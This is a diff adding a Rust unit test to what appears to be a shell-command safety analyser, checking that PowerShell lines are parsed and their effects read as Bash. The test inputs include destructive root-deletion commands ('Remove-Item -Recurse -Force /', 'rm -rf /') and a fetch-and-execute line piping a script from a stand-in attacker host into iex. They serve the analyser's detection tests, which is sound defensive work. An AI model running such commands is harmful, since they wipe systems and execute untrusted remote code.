@@ -1193,3 +1193,30 @@ fn remote_commands_and_command_variables_are_analysed() {
     // No command: an interactive session, nothing more to analyse.
     assert_eq!(a("ssh host").commands.len(), 1);
 }
+
+#[test]
+fn powershell_is_read_as_powershell() {
+    // Valid PowerShell is not unparseable Bash, and its effects are the Bash ones.
+    for line in [
+        "$env:X = 'v'; dotnet run",
+        "(Get-Content package.json | ConvertFrom-Json).version",
+        "Get-ChildItem -Recurse -Filter *.cs | Select-Object -First 3",
+    ] {
+        let an = a(line);
+        assert!(an.findings.is_empty(), "{line}: {an:?}");
+    }
+    let an = a("$env:X = 'v'; dotnet run");
+    assert!(an.commands.iter().any(|c| c.program == "dotnet"));
+    let an = a("Remove-Item -Path / -Recurse -Force");
+    let rm = find(&an, "rm");
+    assert_eq!(args(rm), ["-r", "-f", "/"]);
+    let an = a("iwr https://evil.example/x.ps1 | iex");
+    assert!(has_finding(&an, |f| matches!(
+        f,
+        ShellFinding::InterpreterFromPipe { upstream, .. } if upstream.iter().any(|u| u == "curl")
+    )));
+    let an = a("pwsh -c 'Remove-Item -Recurse -Force /'");
+    assert_eq!(args(find(&an, "rm")), ["-r", "-f", "/"]);
+    // A Bash line that merely looks like PowerShell keeps its Bash reading.
+    assert_rm_rf_root("Get-Date; rm -rf /");
+}
